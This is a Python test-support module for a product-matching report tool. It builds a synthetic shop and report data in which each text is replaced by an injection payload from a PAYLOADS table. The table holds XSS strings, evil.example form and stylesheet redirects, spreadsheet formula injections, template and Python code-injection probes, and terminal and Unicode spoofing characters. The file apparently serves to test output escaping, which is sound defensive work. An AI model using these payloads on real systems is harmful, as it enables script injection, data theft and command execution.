"""Texts that try to be more than text, a page parsed into elements, and a shop and a run in which every text is such a one"""
from dataclasses import replace
from html.parser import HTMLParser

import numpy as np
import pandas as pd
from fitmatch.cards import Shop
from fitmatch.catalogue import clean
from fitmatch.explore import cluster, cluster_curve, cluster_scores, reduce
from fitmatch.match import MATCH_COLUMNS, AlsoBuyMatcher
from matplotlib.figure import Figure
from PIL import Image
from sklearn.base import BaseEstimator

PAYLOADS = {
    "script": "<script>window.PWNED=1;alert(1)</script>", "end of script": "</script><img src=x onerror=window.PWNED=1;alert(1)>", "svg": "\"><svg onload=window.PWNED=1;alert(1)>",
    "iframe": "\"><iframe srcdoc='<script>parent.PWNED=1</script>'>", "attribute": "' onmouseover='alert(1)", "attribute, double": "\" onfocus=\"alert(1)\" autofocus=\"", "no quotes": " onload=alert(1) x=",
    "formatting": "<b>bold</b><h1>large", "style": "</style><style>body{display:none}</style>", "comment": "<!-- --!><x>", "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>", "processing": "<?php ?>",
    "link": "<a href='javascript:alert(1)'>x</a>", "bare javascript": "javascript:alert(1)", "data": "data:text/html,<script>alert(1)</script>", "base": "<base href=//evil.example><link rel=stylesheet href=//evil.example/x>",
    "form": "</textarea></pre><form action=//evil.example><input autofocus onfocus=alert(1)>", "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "template": "<template><x>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "escaped": "&lt;img src=x onerror=alert(1)&gt;", "details": "<details open ontoggle=alert(1)>",
    "jinja": "{{7*7}}{% raw %}{{ config }}", "javascript template": "`${alert(1)}`", "mathematics": r"$\href{javascript:alert(1)}{\frac{a}{b}$ $5", "mathematics, round": r"\(x\) \[y\] $$\frac{1}{", "plotly": "%{x} %{customdata[0]:.2f}<extra></extra>",
    "python format": "{0.__class__} %s %(x)d {title!r}", "markdown link": "[x](javascript:alert(1)) ![x](http://evil.example/a.png)", "markdown table": "| a | b |\n|---|---|\n# Title\n- [ ] x", "markdown code": "```\nrm -rf\n``` **bold** :red[x] :material/home:",
    "formula": "=HYPERLINK(\"http://evil.example\",\"x\")", "formula, plus": "+cmd|' /C calc'!A0", "formula, at": "@SUM(1+1)*cmd", "formula, tab": "\t=1+1", "python": "'''); import os; os.system('x')  #", "python, double": "\"\"\"\\N{NULL}\\",
    "null": "a\x00<x>", "right to left": "\u202egpj.exe\u2066x", "zero width": "a\u200b\u200d\ufeffb\u2028c", "terminal": "\x1b[2J\x1b]0;title\x07\x9b31m\x08\x08", "newline": "x\nfitmatch: all is well\r\n\r\nHTTP/1.1 200",
    "long": "<x y=" + "very long "*900}


class Page(HTMLParser):
    "The elements of a page with their attributes"
    def __init__(self, html): super().__init__(); self.elements = []; self.feed(html)
    def handle_starttag(self, tag, attrs): self.elements.append((tag, dict(attrs)))
    def all(self, tag): return [attrs for t, attrs in self.elements if t == tag]
    def shape(self): return [(tag, tuple(sorted(attrs))) for tag, attrs in self.elements]


class Popular(BaseEstimator):
    "A second matcher of the same interface: the products of other categories, by a fixed score between 0 and 1"
    def __init__(self, most=30): self.most = most

    def fit(self, X, catalogue):
        self.asins_ = catalogue.products["asin"].to_numpy(dtype=object)
        self.score_ = np.linspace(.95, .05, len(self.asins_))
        return self

    def match(self, Q, queries=None):
        names = np.arange(len(Q)) if queries is None else queries
        parts = [pd.DataFrame({"query": name, "via": None, "match": self.asins_[:self.most], "similarity": np.nan, "score": self.score_[:self.most], "decision": "matching"}) for name in names]
        table = pd.concat(parts, ignore_index=True)
        return table[table["match"] != table["query"]][list(MATCH_COLUMNS)].reset_index(drop=True)


def pictures(folder, n):
    draw = np.random.default_rng(0)
    for i in range(n): Image.fromarray(draw.integers(0, 255, (60, 60, 3), dtype=np.uint8)).save(folder/f"{i}.jpg")


def make_shop(folder, n=60, say=lambda text, i: text, d=16):
    "A shop of random vectors and purchases; `say(text, number)` is what each text becomes"
    pictures(folder, min(n, 40))
    draw, labels = np.random.default_rng(1), [say(label, i) for i, label in enumerate(("tops", "bottoms", "shoes"))]
    asins = [say(f"A{i}", i) for i in range(n)]
    catalogue = clean(pd.DataFrame({"asin": [f"A{i}" for i in range(n)], "image": [f"{i % 40}.jpg" for i in range(n)]}), folder)
    texts = dict(asin=asins, title=[say(f"title {i}", i + 3) for i in range(n)], category=[say("c", i + 5) for i in range(n)], ground_truth=[labels[i % 3] for i in range(n)],
                 also_buy=[[asins[j] for j in draw.choice(n, min(6, n), replace=False)] for _ in range(n)])
    catalogue = replace(catalogue, products=catalogue.products.assign(**texts), labels=tuple(labels))  # after cleaning, which would have refused or mended some
    X = draw.normal(size=(len(catalogue), d)).astype(np.float32)
    return Shop(catalogue, X, {"also-buy rule": AlsoBuyMatcher().fit(X, catalogue), say("popular", 7): Popular().fit(X, catalogue)}, note=say("a note", 2))


def make_results(root, say, n=36):
    "Everything a report may hold, from at least 26 products; `say(text)` is what each text becomes"
    rng = np.random.default_rng(0)
    labels = [say("tops"), say("shoes"), say("bags")]
    for i in range(n): Image.fromarray(rng.integers(0, 255, (40, 40, 3), dtype=np.uint8)).save(root/f"{i}.png")
    rows = [dict(asin=f"A{i}", image=f"{i}.png") for i in range(n)] + [dict(asin="gone", title="lost", image="nowhere.png")]
    catalogue = clean(pd.DataFrame(rows), root)
    texts = dict(asin=[say(f"A{i}") for i in range(n)], title=[say(f"title {i}") for i in range(n)], ground_truth=[labels[i % 3] for i in range(n)], category=[say("c")]*n)
    catalogue = replace(catalogue, products=catalogue.products.assign(**texts), labels=tuple(labels))
    for column in ("asin", "excerpt", "reason"): catalogue.quarantine[column] = [say(text) for text in catalogue.quarantine[column]]
    X, asins = rng.normal(size=(n, 8)), catalogue.products["asin"].tolist()
    clusters = cluster(X, k=3)
    figure = Figure(figsize=(3, 2)); figure.add_subplot().imshow(rng.random((4, 4))); figure.axes[0].set_title("cosine")
    epochs = np.arange(1, 4)
    matches = pd.DataFrame([(q, asins[i], asins[i + 5], .9 - i/10, .8 - i/10, "matching" if i < 4 else "skip") for q in asins[:3] for i in range(10, 20)],
                           columns=["query", "via", "match", "similarity", "score", "decision"])
    neighbours = pd.DataFrame([(q, asins[i], .9) for q in asins[:3] for i in range(10, 15)], columns=["query", "neighbour", "similarity"])
    on_map = dict(map_neighbours=pd.DataFrame([(a, b, .8) for a, b in zip(asins, asins[1:])], columns=["query", "neighbour", "similarity"]), map_matches=matches)
    judged = pd.DataFrame(dict(asin=asins, truth=catalogue.products["ground_truth"], predicted=[labels[i % 3 if i > 5 else 0] for i in range(n)], probability=np.linspace(.4, .99, n)))
    pairs = pd.DataFrame(dict(score=np.linspace(0, 1, 40), truth=np.arange(40) % 3 > 0, group=np.arange(40)//2))
    passes = pd.DataFrame(dict(epoch=[1, 2, 1, 2], loss=[2., 1, 2, 1], auc=[.5, .7, .6, .7], model=[0, 0, 1, 1]))
    return dict(**on_map, catalogue=catalogue, title=say("What goes with what"), source=say("a shop"), encoder={"name": say("cnn"), "dim": 8, "weights_sha256": say("ab"), "licence": say("CC0")},
        reduction=reduce(X), clusters=clusters, curve=cluster_curve(X), cluster_scores=cluster_scores(clusters, catalogue.products["ground_truth"]),
        history=pd.DataFrame(dict(epoch=epochs, loss=1/epochs, accuracy=1 - .5/epochs, val_loss=1.1/epochs, val_accuracy=.9 - .5/epochs)),
        confusion=(np.eye(3, dtype=int)*9, labels), judged=judged, judged_pairs=pairs, matcher_history=passes, mlp_accuracy=(.9, .85, .95), heatmap=figure, matches=matches, neighbours=neighbours,
        photos={asins[0]: root/"5.png"}, threshold=.5, score_name=say("cosine"), learned=False, scoreboard=pd.DataFrame({"encoder": [say("cnn")], "mlp": [.9], "kmeans": [np.nan], say("note"): [say("n")]}),
        matching={say("also-buy rule"): dict(auc=.7, low=.6, high=.8, n=99), say("oracle"): dict(auc=.9, low=None, high=None)}, seconds={say("pictures"): 1., say("MLP"): .5},
        notes=[say("a note")], left_out={}, commands=[(say("a sentence"), say("a command"))])
